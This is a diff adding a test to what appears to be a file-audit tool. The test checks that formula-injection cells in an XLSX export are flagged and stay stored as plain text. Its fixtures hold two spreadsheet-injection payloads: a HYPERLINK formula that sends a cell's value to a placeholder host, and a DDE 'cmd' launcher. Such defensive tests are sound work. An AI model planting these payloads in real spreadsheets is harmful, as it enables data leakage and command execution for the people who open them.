@@ -52,3 +52,23 @@ def test_the_csv_writer_keeps_formulas_when_asked(tmp_path):
         writer.write(text_frame([["=1+1"]]))
         outputs.commit()
     assert (tmp_path / "out.csv").read_text() == "a\n=1+1\n"
+
+
+def test_a_workbook_output_stores_formula_cells_as_text_never_as_formulas(cli, tmp_path):
+    """XLSX outputs need no apostrophe: every cell is written as a string, which Excel never runs."""
+    import openpyxl
+    formulas = ['=HYPERLINK("http://x.invalid/?d="&A2;"clic")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["Nom", "Type client", "Commentaire"])
+    for name, formula in zip(["Durand", "Martin"], formulas):
+        sheet.append([name, "B2B", None])
+        cell = sheet.cell(row=sheet.max_row, column=3, value=formula)
+        cell.data_type = "s"  # a text cell holding the formula's characters, as a CRM export writes it
+    book.save(tmp_path / "f.xlsx")
+    run = cli("audit", str(tmp_path / "f.xlsx"), "--channel", "post", "--fail-on", "never")
+    assert run.code == 0, run.stderr
+    assert {(f["rule"], f["row"]) for f in run.side("f")} >= {("formula-injection", 2), ("formula-injection", 3)}
+    cells = [row[2] for row in openpyxl.load_workbook(run.out_dir / "f.clean.xlsx").active.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == formulas
+    assert [c.data_type for c in cells] == ["s", "s"]
